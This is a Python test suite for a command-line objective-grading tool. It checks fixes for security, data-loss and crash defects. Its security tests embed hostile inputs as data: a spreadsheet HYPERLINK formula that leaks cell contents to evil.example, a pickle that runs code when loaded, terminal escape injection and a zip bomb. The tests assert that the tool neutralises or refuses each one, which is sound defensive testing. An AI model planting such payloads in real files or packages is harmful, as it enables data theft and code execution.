"""Issue 13, case by case: each defect of the adversarial pass reproduced, fixed behaviour asserted.

Property-based tests of the same areas are in ``test_reliability_properties.py``; signals, start-up
interrupts and memory on endless input (subprocesses) in ``test_signals.py``.
"""
from __future__ import annotations

import csv
import io
import json
import os
import pickle
import shutil
import stat
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from click.testing import CliRunner

from coach import paths
from coach.batch import atomic_output
from coach.batch.readers import open_table
from coach.cli import main
from coach.grader import GraderError, LinearWeights, load_grader
from coach.inputs import InputError
from coach.safe_output import OutputError, OutputExistsError, check_target

pytestmark = pytest.mark.usefixtures("cli_uses_session_coach")


def invoke(args, input=None):
    return CliRunner().invoke(main, [str(a) for a in args], input=input)


def grade_csv(tmp_path, name, content, *args, input=None):
    path = tmp_path / name
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    result = invoke(["grade", path, "-q", *args], input=input)
    return result, list(csv.reader(io.StringIO(result.stdout)))


def assert_one_line_exit_2(result, message=""):
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    assert message in lines[0], lines[0]


# --- Security -----------------------------------------------------------------------------------

@pytest.mark.parametrize("lead", ["\x01", "\x0b", "\x1f"])
def test_xlsx_formula_behind_a_control_character_is_neutralised(tmp_path, lead):
    source = tmp_path / "in.csv"
    with open(source, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["name", "objective"],
                                  [lead + '=HYPERLINK("http://evil.example/?leak="&B2,"click")', "Meet CFOs"]])
    out = tmp_path / "out.xlsx"
    assert invoke(["grade", source, "-o", out, "-q"]).exit_code == 0
    sheet = openpyxl.load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells if c.value is not None)  # every cell a string
    name = sheet["A2"].value
    assert name == '\'=HYPERLINK("http://evil.example/?leak="&B2,"click")'
    with zipfile.ZipFile(out) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula element at all


def test_csv_formula_behind_a_control_character_is_neutralised(tmp_path):
    _, rows = grade_csv(tmp_path, "in.csv", 'name,objective\n"\x01=1+2",Meet CFOs\n')
    assert rows[1][0] == "'\x01=1+2"


def evil_model(tmp_path) -> tuple[Path, Path]:
    """A copy of the model whose grader.joblib creates a file when unpickled, checksum updated."""
    folder = tmp_path / "evil-model"
    shutil.copytree(paths.GRADER_DIR, folder)
    marker = tmp_path / "pwned"

    class Evil:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    (folder / "grader.joblib").write_bytes(pickle.dumps(Evil()))
    meta = json.loads((folder / "meta.json").read_text())
    import hashlib
    meta["model_sha256"] = hashlib.sha256((folder / "grader.joblib").read_bytes()).hexdigest()
    (folder / "meta.json").write_text(json.dumps(meta))
    return folder, marker


def test_untrusted_model_folder_is_never_unpickled(tmp_path):
    folder, marker = evil_model(tmp_path)
    result = invoke(["check", "--model", folder, "--format", "json", "Meet sales trainers"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)[0]["grade"] == "improved"  # the NumPy weights suffice
    grader = load_grader(folder)
    with pytest.raises(GraderError, match="not unpickling"):
        _ = grader.pipeline
    assert not marker.exists()
    # Only an explicit trusted=True reads the pickle (and this one runs its code: that is the risk).
    with pytest.raises(GraderError):
        _ = load_grader(folder, trusted=True).pipeline
    assert marker.exists()


def test_own_model_pipeline_still_loads():
    assert hasattr(load_grader(paths.GRADER_DIR).pipeline, "predict_proba")


def test_fifo_is_not_replaced_even_with_force(tmp_path):
    fifo = tmp_path / "out.csv"
    os.mkfifo(fifo)
    result = invoke(["grade", paths.data_file("examples.txt"), "-o", fifo, "--force"])
    assert_one_line_exit_2(result, "not a regular file")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_device_node_is_not_replaced_even_with_force(tmp_path):
    device = tmp_path / "null.csv"
    try:
        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except (PermissionError, OSError):
        pytest.skip("cannot create a device node here")
    result = invoke(["grade", paths.data_file("examples.txt"), "-o", device, "--force"])
    assert_one_line_exit_2(result, "not a regular file")
    assert stat.S_ISCHR(os.lstat(device).st_mode)


@pytest.mark.parametrize("path", ["/dev/null", "/dev/stdout", "/proc/self/fd/1", "/sys/kernel/x.csv"])
def test_special_paths_are_refused(path):
    # Checked without writing anything: with the bug, `-o /dev/null --force` replaced /dev/null.
    with pytest.raises(OutputError, match="not a regular file"):
        check_target(Path(path), force=True)


def test_link_to_dev_null_is_refused_even_with_force(tmp_path):
    link = tmp_path / "out.csv"  # a link in tmp: even a regression could only replace the link
    link.symlink_to("/dev/null")
    result = invoke(["grade", paths.data_file("examples.txt"), "-o", link, "--force"])
    assert_one_line_exit_2(result, "not a regular file")
    assert link.is_symlink() and stat.S_ISCHR(os.stat("/dev/null").st_mode)


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_dangling_symlink_is_not_replaced(tmp_path, force):
    link = tmp_path / "out.csv"
    link.symlink_to(tmp_path / "nowhere.csv")
    result = invoke(["grade", paths.data_file("examples.txt"), "-o", link, *force])
    assert_one_line_exit_2(result, "symbolic link to nothing")
    assert link.is_symlink() and not (tmp_path / "nowhere.csv").exists()


def test_symlink_to_a_regular_file_is_written_through_with_force(tmp_path):
    target = tmp_path / "real.csv"
    target.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert invoke(["grade", paths.data_file("examples.txt"), "-o", link]).exit_code == 2
    assert target.read_text() == "old"
    assert invoke(["grade", paths.data_file("examples.txt"), "-o", link, "--force", "-q"]).exit_code == 0
    assert link.is_symlink() and target.read_text().startswith("objective,grade")


# --- Data loss ----------------------------------------------------------------------------------

def test_late_extra_cell_goes_to_overflow_without_shifting(tmp_path):
    lines = ["id,objective,comment"] + [f"{i},Meet CFOs,c{i}" for i in range(1, 61)]
    lines += ["61,Meet CFOs,c61,surprise", "62,Meet sales trainers,c62"]
    _, rows = grade_csv(tmp_path, "in.csv", "\n".join(lines) + "\n")
    header = rows[0]
    assert len(rows) == 63 and {len(r) for r in rows} == {len(header)}
    by_id = {r[0]: dict(zip(header, r)) for r in rows[1:]}
    assert by_id["61"]["grade"] == "improved" and by_id["61"]["comment"] == "c61"
    assert json.loads(by_id["61"]["overflow"]) == {"column_4": "surprise"}
    assert by_id["62"]["grade"] == "improved" and by_id["62"]["overflow"] == ""


def test_late_jsonl_key_goes_to_overflow_without_shifting(tmp_path):
    lines = [json.dumps({"id": i, "objective": "Meet CFOs"}) for i in range(60)]
    lines.append(json.dumps({"id": 60, "late": "x", "objective": "Meet sales trainers"}))
    _, rows = grade_csv(tmp_path, "in.jsonl", "\n".join(lines) + "\n")
    header = rows[0]
    assert header[:2] == ["id", "objective"] and {len(r) for r in rows} == {len(header)}
    last = dict(zip(header, rows[-1]))
    assert last["objective"] == "Meet sales trainers" and last["grade"] == "improved"
    assert json.loads(last["overflow"]) == {"late": "x"}


def test_second_run_to_the_same_new_path_cannot_claim_it(tmp_path):
    out = tmp_path / "report.csv"
    with atomic_output(out, force=False) as first:
        with pytest.raises(OutputExistsError, match="exists"):
            with atomic_output(out, force=False):
                pass
        first.write(b"first run\n")
    assert out.read_text() == "first run\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]


@pytest.mark.parametrize("name", ["__error__", "error"])
def test_input_column_cannot_hijack_the_error_channel(tmp_path, name):
    _, rows = grade_csv(tmp_path, "in.csv", f"{name},objective\nsmuggled,Meet sales trainers\n")
    row = dict(zip(rows[0], rows[1]))
    assert row[name] == "smuggled"
    prefix = "coach_" if name == "error" else ""
    assert row[prefix + "grade"] == "improved" and row[prefix + "error"] == ""


def test_jsonl_key_cannot_hijack_the_error_channel(tmp_path):
    _, rows = grade_csv(tmp_path, "in.jsonl", '{"__error__": "smuggled", "objective": "Meet sales trainers"}\n')
    row = dict(zip(rows[0], rows[1]))
    assert row["__error__"] == "smuggled" and row["grade"] == "improved" and row["error"] == ""


def test_cp1252_byte_after_8_kib_changes_only_its_line(tmp_path):
    lines = ["id,name,objective"] + [f"{i},Ann,Meet sales trainers" for i in range(600)]
    data = ("\n".join(lines) + "\n").encode() + "601,José,Meet sales trainers\n".encode("cp1252")
    result, rows = grade_csv(tmp_path, "in.csv", data)
    assert len(data) > 8192 and rows[-1][1] == "José" and rows[-1][3] == "improved"
    assert "\ufffd" not in result.stdout


def test_one_cp1252_byte_does_not_decode_the_utf8_lines_as_cp1252(tmp_path):
    data = "id,name,objective\n".encode() + "1,Renée,Meet CFOs\n".encode("cp1252") + "2,José,Meet CFOs\n".encode()
    _, rows = grade_csv(tmp_path, "in.csv", data)
    assert [r[1] for r in rows[1:]] == ["Renée", "José"]


def test_leading_newlines_and_blank_first_chunk_are_not_empty():
    text = "\n" * 9000 + " " * 70000 + "\n" + "Meet sales trainers\n"
    result = invoke(["grade", "-", "--input-format", "txt", "-q"], input=text)
    assert result.exit_code == 0, result.output
    assert [r[1] for r in csv.reader(io.StringIO(result.stdout))][1:] == ["improved"]
    assert invoke(["check", "--format", "jsonl"], input=text).exit_code == 0


def test_semicolon_export_with_semicolons_and_quotes_in_objectives(tmp_path):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerows([["id", "Name", "Goal"],
                      ["1", "Ann", 'Meet CFOs; the "money" people, in Akron'],
                      ["2", "Bo", "Meet sales trainers"]])
    result, rows = grade_csv(tmp_path, "in.csv", buffer.getvalue())
    assert rows[0][:3] == ["id", "Name", "Goal"]
    assert rows[1][2] == 'Meet CFOs; the "money" people, in Akron' and rows[2][2] == "Meet sales trainers"
    assert "delimiter ';'" in invoke(["grade", tmp_path / "in.csv"]).stderr


def test_refused_plan_answer_does_not_poison_later_ones(coach_instance):
    from coach.plan import PlanCoach

    coach = PlanCoach(coach_instance)
    draft = coach.start("Getting new business")
    with pytest.raises(InputError, match="too long"):
        coach.answer(draft, "what", "x" * 3000)
    assert draft.what == "" and draft.result.text == "Getting new business"
    coach.answer(draft, "who", "sales professionals")
    assert draft.result.grade == "improved" and "sales professionals" in draft.result.text
    # An answer that makes the objective ungradable is refused and leaves the draft as it was.
    with pytest.raises(InputError, match="English"):
        coach.answer(draft, "narrow", "que trabajan en la ciudad de los angeles para la empresa")
    assert draft.narrow == "" and "que" not in draft.result.text
    coach.answer(draft, "narrow", "currently using a software-based contact management system")
    assert draft.result.grade == "specific"


def test_refused_interactive_answer_is_skipped_and_the_next_one_works(tmp_path):
    out = tmp_path / "plan.md"
    answers = "x" * 3000 + "\nsales professionals\ncurrently using a software-based contact management system\n"
    result = invoke(["plan", "--objective", "Getting new business", "-o", out], input=answers)
    assert result.exit_code == 0, result.output
    assert "too long" in result.stdout and "skipped" in result.stdout
    assert "→ IMPROVED" in result.stdout and "sales professionals (sales)" in out.read_text()


@pytest.mark.parametrize(("answers", "message"), [
    ('{"what": null}', 'answer "what" must be text, got null'),
    ('{"who": 5}', 'answer "who" must be text, got int'),
    ('{"narrow": ["in Akron"]}', 'answer "narrow" must be text, got list'),
])
def test_null_or_non_text_scripted_answer_is_refused_clearly(answers, message):
    result = invoke(["plan", "--objective", "Getting new business", "--answers", "-"], input=answers)
    assert_one_line_exit_2(result, message)
    assert "None" not in result.output


def test_mutating_a_result_does_not_change_later_results(coach_instance):
    text = "Meet sales trainers in Akron"
    first = coach_instance.check(text)
    first.roles[0].fields.append("mutated")
    first.probabilities["vague"] = 99.0
    first.venues.clear()
    first.feedback.append("junk")
    second = coach_instance.check(text)
    assert "mutated" not in second.roles[0].fields and second.probabilities["vague"] < 1
    assert second.venues and "junk" not in second.feedback
    a, b = coach_instance.check_many([text, text])
    a.needs.append("x")
    a.roles[0].fields.append("y")
    assert b.needs == [] and "y" not in b.roles[0].fields
    assert next(coach_instance.check_many([text])).to_dict() == coach_instance.check(text).to_dict()


@pytest.mark.parametrize("fmt", ["csv", "html", "xlsx"])
def test_header_only_input_with_output_leaves_no_file(tmp_path, fmt):
    source = tmp_path / "in.csv"
    source.write_text("name,objective\n")
    out = tmp_path / f"out.{fmt}"
    assert_one_line_exit_2(invoke(["grade", source, "-o", out]), "no rows")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


def test_grade_and_coach_grade_input_columns_give_unique_headers(tmp_path):
    _, rows = grade_csv(tmp_path, "in.csv", "grade,coach_grade,objective\nA,B,Meet CFOs\n")
    header = rows[0]
    assert len(header) == len(set(header))
    row = dict(zip(header, rows[1]))
    assert row["grade"] == "A" and row["coach_grade"] == "B" and row["coach_2_grade"] == "improved"


# --- Crashes with a traceback -------------------------------------------------------------------

def test_lone_surrogate_in_jsonl_is_a_row_error_and_the_batch_goes_on(tmp_path):
    content = '{"objective": "\\ud800 Meet CFOs", "name": "\\udc80x"}\n{"objective": "Meet CFOs", "name": "Bo"}\n'
    for fmt in ("csv", "jsonl", "xlsx", "html"):
        out = tmp_path / f"out.{fmt}"
        result = invoke(["grade", "-", "--input-format", "jsonl", "-o", out, "-q"], input=content)
        assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text())))
    assert rows[0]["grade"] == "" and "undecodable" in rows[0]["error"] and rows[0]["name"] == "\ufffdx"
    assert rows[1]["grade"] == "improved"


def test_lone_surrogate_in_the_api_is_an_input_error(coach_instance):
    with pytest.raises(InputError, match="not valid text"):
        coach_instance.check("Meet \ud800 CFOs")
    results = list(coach_instance.check_many(["Meet \udcff CFOs", "Meet CFOs"], errors="keep"))
    assert results[0].grade is None and "not valid text" in results[0].error
    assert results[1].grade == "improved"


def test_lone_surrogate_from_undecodable_argv_is_exit_2():
    text = b"Meet \xff CFOs".decode("utf-8", "surrogateescape")  # how Python hands over such argv
    assert_one_line_exit_2(invoke(["check", text]), "not valid text")
    assert_one_line_exit_2(invoke(["plan", "--objective", text]), "not valid text")


def test_lone_surrogate_in_scripted_answers_is_exit_2():
    result = invoke(["plan", "--objective", "Getting new business", "--answers", "-"], input='{"what": "\\ud800"}')
    assert_one_line_exit_2(result, "not valid text")


def test_undecodable_bytes_at_a_plan_prompt_do_not_crash(tmp_path):
    result = invoke(["plan", "--objective", "Getting new business"],
                    input=b"learn which CRM they would recommend \xff\xfe\n" + b"done\n")
    assert result.exit_code == 0, result.output
    assert "→ IMPROVED" in result.stdout


def test_csv_field_over_the_field_limit_is_one_line_exit_2(tmp_path):
    # Over the 1 MiB line limit (in one quoted cell across lines): the file is refused in one line.
    source = tmp_path / "big.csv"
    source.write_text('id,objective\n1,"' + "x\n" * 600_000 + '"\n')
    assert_one_line_exit_2(invoke(["grade", source]), "larger than 1 MiB")


def test_csv_cell_over_128_kib_is_a_row_error_not_the_end_of_the_batch(tmp_path):
    # The csv module's own 128 KiB cell limit used to stop the whole batch (adv13).
    source = tmp_path / "big.csv"
    source.write_text('id,objective\n1,"' + "x" * 200_000 + '"\n2,Meet CPAs in Akron\n')
    result = invoke(["grade", source, "-q"])
    assert result.exit_code == 0, result.output
    previous = csv.field_size_limit(1 << 20)  # to read the output back here
    try:
        rows = list(csv.reader(io.StringIO(result.stdout)))
    finally:
        csv.field_size_limit(previous)
    assert [(r[0], r[2]) for r in rows[1:]] == [("1", ""), ("2", "specific")]
    assert len(rows[1][1]) == 200_000 and "too long" in rows[1][-2]


def test_cr_only_line_endings(tmp_path):
    _, rows = grade_csv(tmp_path, "cr.csv", b'id,objective\r1,Meet sales trainers\r2,"Getting\rnew business"\r')
    assert [(r[0], r[2]) for r in rows[1:]] == [("1", "improved"), ("2", "vague")]
    assert rows[2][1] == "Getting\rnew business"


DEEP = "[" * 3000 + "]" * 3000


def test_deep_json_in_a_jsonl_row_is_a_row_error(tmp_path):
    content = '{"objective": "Meet CFOs"}\n{"objective": "Meet CFOs", "x": ' + DEEP + "}\n"
    _, rows = grade_csv(tmp_path, "in.jsonl", content)
    row = dict(zip(rows[0], rows[2]))
    assert row["grade"] == "" and "nested" in row["error"]


@pytest.mark.parametrize("command", ["evaluate", "train"])
def test_deep_json_in_labeled_files_is_exit_2(tmp_path, command):
    data = tmp_path / "labeled.jsonl"
    data.write_text('{"text": "Meet CFOs", "grade": "vague", "x": ' + DEEP + "}\n")
    args = ["evaluate", data] if command == "evaluate" else ["train", "--data", data, "--out", tmp_path / "m"]
    assert_one_line_exit_2(invoke(args), "nested")
    assert not (tmp_path / "m").exists()


@pytest.mark.parametrize(("name", "content", "message"), [
    ("deep.json", '{"venues": ' + DEEP + "}", "nested"),
    ("deep.toml", "venues = " + DEEP, "nested"),
    ("five.json", '{"venues": 5}', "'venues' must be a list"),
    ("five.toml", "venues = 5", "'venues' must be a list"),
    ("keywords.toml", '[[topics]]\nname = "CRM"\nkeywords = 5\n', "'keywords' must be a list of strings"),
    ("venue-keywords.toml", '[[venues]]\nname = "X"\nkeywords = 5\n', "'keywords' must be a list of strings"),
    ("fields.json", '{"venues": [{"name": "X", "fields": [["sales"]]}]}', "'fields' must be a list of strings"),
    ("name.json", '{"venues": [{"name": 5}]}', "'name' must be a string"),
    ("list.json", "[]", "expected a table/object"),
])
def test_wrongly_typed_venues_file_is_exit_2(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_text(content)
    assert_one_line_exit_2(invoke(["check", "--venues", path, "Meet CFOs"]), message)


def test_deep_scripted_answers_are_exit_2():
    result = invoke(["plan", "--objective", "Getting new business", "--answers", "-"], input='{"what": ' + DEEP + "}")
    assert_one_line_exit_2(result, "nested")


def test_malformed_sheet_xml_is_exit_2(tmp_path):
    good = tmp_path / "good.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["name", "objective"])
    for k in range(200):
        book.active.append([f"P{k}", "Meet CFOs"])
    book.save(good)
    bad = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bad, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            dst.writestr(item, data[: len(data) // 2] if item.filename == "xl/worksheets/sheet1.xml" else data)
    out = tmp_path / "out.csv"
    assert_one_line_exit_2(invoke(["grade", bad, "-o", out]), "damaged")
    assert not out.exists()


@pytest.mark.parametrize(("meta", "message"), [
    ("[]", "not a JSON object"),
    ("null", "not a JSON object"),
    ('{"versions": "1.0"}', "'versions' is not an object"),
    ('{"model_sha256": 5, "versions": {}}', "'model_sha256' is not a string"),
    ("{", "unreadable"),
    ('{"versions": ' + DEEP + "}", "unreadable"),
])
def test_damaged_meta_json_is_exit_2(model_copy, meta, message):
    (model_copy / "meta.json").write_text(meta)
    assert_one_line_exit_2(invoke(["check", "--model", model_copy, "Meet CFOs"]), message)


def rewrite_weights(folder, change):
    weights = LinearWeights.load(folder / "grader-weights.npz")
    change(weights)
    weights.save(folder / "grader-weights.npz")
    meta = json.loads((folder / "meta.json").read_text())
    meta.pop("weights_sha256")
    (folder / "meta.json").write_text(json.dumps(meta))


@pytest.mark.parametrize(("change", "message"), [
    (lambda w: w.coef.__setitem__((0, 0, 0), np.nan), "NaN or infinite"),
    (lambda w: setattr(w, "a", np.full_like(w.a, np.inf)), "NaN or infinite"),
    (lambda w: setattr(w, "coef", w.coef[0]), "dimensions"),
    (lambda w: setattr(w, "intercept", w.intercept[:, :2]), "intercept is"),
    (lambda w: setattr(w, "coef", w.coef[:, :, :-5]), "feature names"),
])
def test_wrong_shaped_or_nan_weights_are_exit_2(model_copy, change, message):
    rewrite_weights(model_copy, change)
    result = invoke(["check", "--model", model_copy, "--format", "json", "Meet CFOs"])
    assert_one_line_exit_2(result, message)
    assert '"probabilities"' not in result.output  # nothing half-printed as "JSON"


@pytest.mark.parametrize(("row", "message"), [
    ({"text": 5, "grade": "vague"}, "text must be a string"),
    ({"text": "Meet CFOs", "grade": 5}, "has grade 5"),
    ({"text": "Meet CFOs", "grade": ["vague"]}, "has grade ['vague']"),
    ({"text": "Meet CFOs", "grade": "vague", "split": 1}, "split must be a string"),
    ({"text": "Meet CFOs", "grade": "vague", "roles": [{"text": 5}]}, "each role must be"),
    ({"text": "Meet CFOs", "grade": "vague", "roles": [{"text": "CFOs", "fields": 5}]}, "each role must be"),
    ({"text": "Meet \ud800 CFOs", "grade": "vague"}, "not valid Unicode"),
    ([1, 2], "is not an object"),
])
@pytest.mark.parametrize("command", ["evaluate", "train"])
def test_wrongly_typed_labeled_files_are_exit_2(tmp_path, row, message, command):
    data = tmp_path / "labeled.jsonl"
    data.write_text(json.dumps(row) + "\n")
    args = ["evaluate", data] if command == "evaluate" else ["train", "--data", data, "--out", tmp_path / "m"]
    assert_one_line_exit_2(invoke(args), message)


def test_labeled_csv_with_a_huge_field_is_exit_2(tmp_path):
    data = tmp_path / "labeled.csv"
    data.write_text('text,grade\n"' + "x" * 200_000 + '",vague\n')
    assert_one_line_exit_2(invoke(["evaluate", data]), "field larger than field limit")


def test_output_in_a_folder_that_cannot_be_written(tmp_path, monkeypatch):
    import coach.safe_output as safe_output

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(safe_output.tempfile, "mkstemp", refuse)
    out = tmp_path / "out.csv"
    assert_one_line_exit_2(invoke(["grade", paths.data_file("examples.txt"), "-o", out]), "Permission denied")
    assert list(tmp_path.iterdir()) == []  # the claim was released


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_output_in_a_read_only_folder(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        assert_one_line_exit_2(invoke(["grade", paths.data_file("examples.txt"), "-o", folder / "o.csv"]),
                               "Permission denied")
    finally:
        folder.chmod(0o700)


def test_output_name_of_240_characters(tmp_path):
    out = tmp_path / ("x" * 236 + ".csv")
    assert invoke(["grade", paths.data_file("examples.txt"), "-o", out, "-q"]).exit_code == 0
    assert out.read_text().startswith("objective,grade")
    assert [p.name for p in tmp_path.iterdir()] == [out.name]
    too_long = tmp_path / ("y" * 300 + ".csv")
    assert_one_line_exit_2(invoke(["grade", paths.data_file("examples.txt"), "-o", too_long]), "name too long")


@pytest.mark.parametrize("command", [["grade", paths.data_file("examples.txt"), "--format", "csv"],
                                     ["plan", "--objective", "Getting new business"]])
def test_empty_output_name(command):
    assert_one_line_exit_2(invoke([*command, "-o", ""], input="done\n"), "no output file name")


def test_output_errors_while_writing_remove_everything(tmp_path, monkeypatch):
    out = tmp_path / "out.csv"
    with pytest.raises(OutputError, match="No space left"):
        with atomic_output(out, force=False) as fh:
            fh.write(b"half")
            raise OSError(28, "No space left on device")
    assert list(tmp_path.iterdir()) == []


def test_decompressed_xlsx_size_is_capped(tmp_path):
    source = tmp_path / "in.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["objective"])
    book.save(source)
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * (80 << 20) + b"</sst>")
    assert bomb.stat().st_size < 1 << 20
    assert_one_line_exit_2(invoke(["grade", bomb]), "unzips to 80 MiB")


# --- Smaller ------------------------------------------------------------------------------------

def test_form_feed_nel_and_line_separator_split_the_same_in_check_and_grade():
    text = "Meet sales\x0ctrainers\nMeet CFOs\x85in Akron\nGetting\u2028new business\n"
    checked = invoke(["check", "--format", "jsonl"], input=text.encode())
    graded = invoke(["grade", "-", "--input-format", "txt", "-q"], input=text.encode())
    assert checked.exit_code == graded.exit_code == 0, checked.output + graded.output
    check_texts = [json.loads(line)["text"] for line in checked.stdout.split("\n") if line]
    grade_texts = [row["objective"] for row in csv.DictReader(io.StringIO(graded.stdout))]
    assert len(check_texts) == len(grade_texts) == 3
    assert grade_texts == ["Meet sales\x0ctrainers", "Meet CFOs\x85in Akron", "Getting\u2028new business"]


def test_long_unbroken_name_wraps_in_the_report(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("name,objective\n" + "N" * 10_000 + ",Meet CFOs\n")
    out = tmp_path / "report.html"
    assert invoke(["grade", source, "-o", out, "-q"]).exit_code == 0
    html = out.read_text()
    assert "N" * 10_000 in html
    assert "overflow-wrap:anywhere" in html.split("</style>")[0].split("body{")[1].split("}")[0]


@pytest.mark.parametrize("args", [
    ["check", "--format", "xml", "Meet CFOs"],
    ["check", "--nope"],
    ["grade"],
    ["grade", "in.csv", "--jobs", "0"],
    ["no-such-command"],
    ["--nope"],
])
def test_usage_errors_are_one_line(args):
    result = invoke(args)
    assert_one_line_exit_2(result)
    assert "Usage:" not in result.output and "-h" in result.output


def test_escape_sequences_in_plan_answers_are_neutralised(tmp_path):
    out = tmp_path / "plan.md"
    answers = ("\x1b[2J\x1b]0;owned\x07learn which CRM they recommend\x1b[0m\n"
               "sales \x9b31mprofessionals\n"
               "currently using a \x1bPsoftware\x1b\\software-based contact management system\n")
    result = invoke(["plan", "--objective", "\x1b[31mGetting new business", "-o", out], input=answers)
    assert result.exit_code == 0, result.output
    for text in (result.output, out.read_text()):
        assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text
    assert "sales professionals (sales)" in out.read_text()
    assert "learn which CRM they recommend" in out.read_text()


def test_every_worksheet_with_the_same_header_is_read_and_others_named(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "Day 1"
    book.active.append(["name", "objective"])
    book.active.append(["Ann", "Meet CFOs"])
    day2 = book.create_sheet("Day 2")
    day2.append(["name", "objective"])
    day2.append(["Bo", "Meet sales trainers"])
    book.create_sheet("Empty")
    summary = book.create_sheet("Summary")
    summary.append(["count"])
    summary.append([2])
    source = tmp_path / "in.xlsx"
    book.save(source)
    result = invoke(["grade", source])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["name"], r["grade"]) for r in rows] == [("Ann", "improved"), ("Bo", "improved")]
    assert "read sheets 'Day 1', 'Day 2'" in result.stderr and "sheet 'Summary' not read" in result.stderr


def test_repeated_bom_header_line_is_skipped(tmp_path):
    export = "\ufeffid,objective\n1,Meet CFOs\n".encode()
    result, rows = grade_csv(tmp_path, "in.csv", export + export.replace(b"1,", b"2,"))
    assert [r[0] for r in rows[1:]] == ["1", "2"]
    assert "skipped 1 repeated header line" in invoke(["grade", tmp_path / "in.csv"]).stderr


def test_txt_lines_with_a_bom_each_are_read_clean():
    table = open_table(None, "txt", stdin=io.BytesIO("\ufeffMeet CFOs\n\ufeffMeet sales trainers\n".encode()))
    assert [r["objective"] for r in table.rows] == ["Meet CFOs", "Meet sales trainers"]
